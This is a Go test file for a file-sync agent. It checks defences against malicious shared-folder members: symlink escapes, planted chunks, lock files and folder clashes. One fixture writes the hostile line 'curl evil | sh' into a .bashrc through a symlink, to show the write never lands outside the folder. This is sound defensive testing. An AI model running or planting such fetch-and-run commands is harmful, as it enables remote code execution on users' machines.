@@ -1,0 +1,221 @@
+package agent_test
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/mattersync/mattersync/format"
+	"github.com/mattersync/mattersync/gateway/api"
+	"github.com/mattersync/mattersync/gateway/client"
+	"github.com/mattersync/mattersync/kms"
+	"github.com/mattersync/mattersync/kms/kmstest"
+)
+
+// member plays a member who talks to the gateway with their own code.
+type rogue struct {
+	t     *testing.T
+	w     *world
+	keys  *format.Keys
+	codec *format.Codec
+	gw    *client.Client
+}
+
+func (w *world) rogue(u kmstest.User) *rogue {
+	t := w.t
+	ctx := context.Background()
+	kr := w.vault.Login(t, u)
+	e1, err := kr.EpochKey(ctx, w.matter, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fids, err := format.DeriveFileIDKey(w.matter, e1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	n, cur, err := kr.CurrentKey(ctx, w.matter)
+	if err != nil {
+		t.Fatal(err)
+	}
+	keys, err := format.DeriveKeys(fids, n, cur)
+	if err != nil {
+		t.Fatal(err)
+	}
+	codec, err := format.NewCodec()
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(codec.Close)
+	gw, err := client.New(w.gateway, client.TokenFunc(func(ctx context.Context) (string, error) {
+		tok, err := kr.IdentityToken(ctx)
+		return tok.Raw, err
+	}), client.Options{Device: "rogue"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &rogue{t: t, w: w, keys: keys, codec: codec, gw: gw}
+}
+
+// putChunk stores plain under id (which need not be plain's ID).
+func (r *rogue) putChunk(id format.ID, plain []byte) {
+	r.t.Helper()
+	sealed, err := r.codec.SealChunk(nil, r.keys, id, plain)
+	if err != nil {
+		r.t.Fatal(err)
+	}
+	if err := r.gw.PutChunk(context.Background(), r.w.matter, id.String(), sealed); err != nil {
+		r.t.Fatal(err)
+	}
+}
+
+// commit writes a new file at path with content, bypassing the agent.
+func (r *rogue) commit(path string, content []byte) {
+	r.t.Helper()
+	id := r.keys.ChunkID(content)
+	r.putChunk(id, content)
+	man := &format.Manifest{Path: path, Version: 1, Size: uint64(len(content)), ModTime: time.Now(), Mode: 0o644,
+		ContentHash: sha256.Sum256(content), Chunks: []format.ChunkRef{{ID: id, Size: uint32(len(content))}},
+		Author: "rogue", Device: "rogue", Created: time.Now()}
+	sealed, fid, err := r.keys.SealManifest(nil, man)
+	if err != nil {
+		r.t.Fatal(err)
+	}
+	if _, err := r.gw.Commit(context.Background(), r.w.matter, fid.String(), 0, api.CommitRequest{Manifest: sealed, Chunks: []string{id.String()}}); err != nil {
+		r.t.Fatal(err)
+	}
+}
+
+func hasProblem(sum []string, sub string) bool {
+	for _, p := range sum {
+		if strings.Contains(p, sub) {
+			return true
+		}
+	}
+	return false
+}
+
+// A symbolic link inside the matter folder never lets a remote file be
+// written outside it.
+func TestSymlinkInMatterFolderIsNotFollowed(t *testing.T) {
+	w := newWorld(t)
+	alice, bob := w.agent(w.member(kms.RoleRW)), w.agent(w.member(kms.RoleRW))
+	outside := t.TempDir()
+	if err := os.Symlink(outside, bob.path("Exhibits")); err != nil {
+		t.Fatal(err)
+	}
+	alice.write("Exhibits/.bashrc", []byte("curl evil | sh"))
+	alice.write("Other.txt", []byte("still syncs"))
+	alice.sync()
+	bob.sync()
+	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
+		t.Fatalf("the agent wrote outside the matter folder: %v", ents)
+	}
+	if got, err := bob.read("Other.txt"); err != nil || string(got) != "still syncs" {
+		t.Fatalf("the rest of the matter stopped syncing: %q, %v", got, err)
+	}
+	st := bob.Status()
+	if len(st.Matters) != 1 || !hasProblem(st.Matters[0].Errors, "not applied") {
+		t.Fatalf("the refused write is not reported: %+v", st.Matters)
+	}
+}
+
+// A folder where a remote file should go is one file's problem: the rest
+// of the matter keeps syncing both ways, and the file arrives once the
+// folder is gone.
+func TestFolderClashIsOneFileProblem(t *testing.T) {
+	w := newWorld(t)
+	alice, bob := w.agent(w.member(kms.RoleRW)), w.agent(w.member(kms.RoleRW))
+	if err := os.MkdirAll(bob.path("Notes/keep"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	alice.write("Notes", []byte("a file named Notes"))
+	alice.write("Later.txt", []byte("later"))
+	alice.sync()
+	bob.write("Mine.txt", []byte("bob's"))
+	bob.sync()
+	if got, _ := bob.read("Later.txt"); string(got) != "later" {
+		t.Fatalf("matter stuck behind the clash: Later.txt = %q", got)
+	}
+	alice.sync()
+	if got, _ := alice.read("Mine.txt"); string(got) != "bob's" {
+		t.Fatalf("bob's upload stuck behind the clash: %q", got)
+	}
+	if !hasProblem(bob.Status().Matters[0].Errors, "folder") {
+		t.Fatalf("clash not reported: %+v", bob.Status().Matters[0].Errors)
+	}
+	if err := os.RemoveAll(bob.path("Notes")); err != nil {
+		t.Fatal(err)
+	}
+	bob.sync() // full passes retry files with problems
+	if got, _ := bob.read("Notes"); string(got) != "a file named Notes" {
+		t.Fatalf("after the folder is gone: Notes = %q", got)
+	}
+	if errs := bob.Status().Matters[0].Errors; len(errs) != 0 {
+		t.Fatalf("problem not cleared: %v", errs)
+	}
+}
+
+// A member who plants garbage under the chunk ID of content a colleague is
+// about to save cannot make the colleague commit an unreadable version.
+func TestPlantedChunkIsReported(t *testing.T) {
+	w := newWorld(t)
+	mallory := w.rogue(w.member(kms.RoleRW))
+	alice, bob := w.agent(w.member(kms.RoleRW)), w.agent(w.member(kms.RoleRW))
+	template := []byte("Standard engagement letter template, v7")
+	mallory.putChunk(mallory.keys.ChunkID(template), []byte("garbage planted under the template's ID"))
+	alice.write("Engagement.txt", template)
+	sum, err := alice.SyncOnce(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sum.Uploaded != 0 || !hasProblem(sum.Problems, "does not open to this content") {
+		t.Fatalf("planted chunk not caught: %+v", sum)
+	}
+	bob.sync()
+	if _, err := bob.read("Engagement.txt"); err == nil {
+		t.Fatal("an unreadable version was committed and reached bob")
+	}
+	if got, _ := alice.read("Engagement.txt"); !bytes.Equal(got, template) {
+		t.Fatal("alice's file was touched")
+	}
+}
+
+// Remote files matching the ignore list (Office lock files planted by a
+// member, desktop.ini) are not written.
+func TestIgnoredRemoteNamesNotWritten(t *testing.T) {
+	w := newWorld(t)
+	mallory := w.rogue(w.member(kms.RoleRW))
+	bob := w.agent(w.member(kms.RoleRW))
+	mallory.commit("~$Brief.docx", []byte("Mallory"))
+	mallory.commit("desktop.ini", []byte("[.ShellClassInfo]"))
+	mallory.commit("Fine.txt", []byte("fine"))
+	bob.sync()
+	for _, name := range []string{"~$Brief.docx", "desktop.ini"} {
+		if _, err := bob.read(name); err == nil {
+			t.Errorf("%s was written", name)
+		}
+	}
+	if got, _ := bob.read("Fine.txt"); string(got) != "fine" {
+		t.Fatalf("Fine.txt = %q", got)
+	}
+}
+
+// A local name that is not NFC is reported, not silently skipped.
+func TestNonNFCNameReported(t *testing.T) {
+	w := newWorld(t)
+	alice := w.agent(w.member(kms.RoleRW))
+	alice.write("Cafe\u0301.txt", []byte("decomposed")) // "Café" in NFD
+	sum, err := alice.SyncOnce(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sum.Uploaded != 0 || !hasProblem(sum.Problems, "NFC") {
+		t.Fatalf("NFD name: %+v", sum)
+	}
+	_ = filepath.Join
+}
